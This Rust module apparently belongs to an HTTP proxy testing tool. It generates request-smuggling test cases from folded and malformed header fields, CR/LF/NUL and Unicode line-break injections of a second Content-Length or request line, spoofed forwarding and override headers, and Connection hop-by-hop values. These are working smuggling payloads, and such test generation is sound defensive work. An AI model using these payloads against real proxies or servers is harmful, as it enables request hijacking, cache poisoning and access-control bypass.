//! Odd bytes in fields, folded lines, and fields that the proxy itself writes.

use super::SMUGGLED;
use crate::join;
use crate::payload::{List, ODD};

const LINE: &str = "GET /tTTTT/x HTTP/1.1\r\nHost: localhost\r\n";

const FIELDS: &[(&str, &str)] = &[
    ("folded", "X-A: b\r\n c"),
    ("folded-tab", "X-A: b\r\n\tc"),
    ("folded-blank", "X-A: b\r\n "),
    ("folded-length", "X-A: b\r\n Content-Length: 5"),
    ("folded-coding", "X-A: b\r\n Transfer-Encoding: chunked"),
    ("folded-request", "X-A: b\r\n GET /tTTTT/smuggled HTTP/1.1"),
    ("folded-name", "X-A\r\n : b"),
    ("folded-lf", "X-A: b\n c"),
    ("folded-cr", "X-A: b\r c"),
    ("no-colon", "X-A"),
    ("no-name", ": b"),
    ("no-value", "X-A:"),
    ("blank-name", "X A: b"),
    ("colon-name", "X:A: b"),
    ("quoted", "X-A: \"b\r\n c\""),
    ("request", "GET /tTTTT/smuggled HTTP/1.1"),
    ("crlf-escaped", "X-A: b%0d%0aContent-Length: 5"),
    ("crlf-literal", "X-A: b\\r\\nContent-Length: 5"),
    ("crlf-unicode", "X-A: b\u{560d}\u{560a}Content-Length: 5"),
    ("nel", "X-A: b\u{85}Content-Length: 5"),
    ("line-separator", "X-A: b\u{2028}Content-Length: 5"),
    ("nul-line", "X-A: b\0\r\nContent-Length: 5"),
    ("nul-cut", "X-A: b\0Content-Length: 5"),
    ("cr-length", "X-A: b\rContent-Length: 5"),
    ("lf-length", "X-A: b\nContent-Length: 5"),
    ("cr-end", "X-A: b\r\r"),
    ("forwarded-for", "X-Forwarded-For: 1.2.3.4"),
    ("forwarded-for-folded", "X-Forwarded-For: 1.2.3.4\r\n 5.6.7.8"),
    ("forwarded-for-two", "X-Forwarded-For: 1.2.3.4\r\nX-Forwarded-For: 5.6.7.8"),
    ("forwarded-host", "X-Forwarded-Host: a\r\nX-Forwarded-Server: b"),
    ("via", "Via: 1.1 a"),
    ("proxy-connection", "Proxy-Connection: keep-alive"),
    ("keep-alive", "Keep-Alive: timeout=5, max=100"),
    ("te", "TE: trailers, chunked"),
    ("trailer", "Trailer: Content-Length"),
    ("authorization", "Proxy-Authorization: Basic YTpi"),
    ("proxy", "Proxy: http://other/"),
    ("range", "Range: bytes=0-0"),
    ("method", "X-HTTP-Method-Override: POST"),
    ("original", "X-Original-URL: /tTTTT/smuggled"),
];

/// Values of Connection.
const HOPS: &[&str] = &[
    "close",
    "keep-alive",
    "close, keep-alive",
    "keep-alive, close",
    "",
    ",",
    ",close",
    "close,",
    "Host",
    "Content-Length",
    "Transfer-Encoding",
    "Content-Length, Transfer-Encoding",
    "X-A",
    "X-Forwarded-For",
    "X-Forwarded-For, X-Forwarded-Host, X-Forwarded-Server",
    "Via",
    "Connection",
    "Connection, close",
    "Upgrade",
    "TE",
    "Trailer",
    "Expect",
    "Cookie",
    "Authorization",
    "\"close\"",
    "clo se",
    "close;",
    "x\0y",
    "x\ry",
    "close\r\n Content-Length",
    "close\r\nConnection: X-A",
    "keep-alive\r\nConnection: close",
    "Keep-Alive, Content-Length",
    "content-length",
    "*",
    "GET",
    "X_A",
    "Proxy-Connection",
];

pub fn add(list: &mut List) {
    for (name, field) in FIELDS {
        list.add(format!("field.{name}.get"), join!(LINE, field, "\r\n\r\n", SMUGGLED));
        let line = LINE.replace("GET", "POST");
        let body = join!("\r\nContent-Length: 5\r\n\r\nhello", SMUGGLED);
        list.add(format!("field.{name}.post"), join!(line, field, body));
    }
    for &odd in ODD {
        let odd = [odd];
        let places = [
            ("name", join!("X", odd, "A: b")),
            ("name-end", join!("X-A", odd, ": b")),
            ("value-start", join!("X-A:", odd, "b")),
            ("value", join!("X-A: b", odd, "c")),
            ("value-end", join!("X-A: b", odd)),
            ("line", odd.to_vec()),
        ];
        for (place, field) in places {
            let name = format!("field-odd.{place}.x{:02x}", odd[0]);
            list.add(name, join!(LINE, field, "\r\n\r\n", SMUGGLED));
        }
    }
    for (number, hop) in HOPS.iter().enumerate() {
        let field = join!("Connection: ", hop, "\r\nX-A: b\r\n");
        list.add(format!("hop.{number}.get"), join!(LINE, field, "\r\n", SMUGGLED));
        let line = LINE.replace("GET", "POST");
        let body = join!("Content-Length: 5\r\n\r\nhello", SMUGGLED);
        list.add(format!("hop.{number}.length"), join!(line, field, body));
        let body = join!("Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n", SMUGGLED);
        list.add(format!("hop.{number}.chunked"), join!(line, field, body));
    }
}
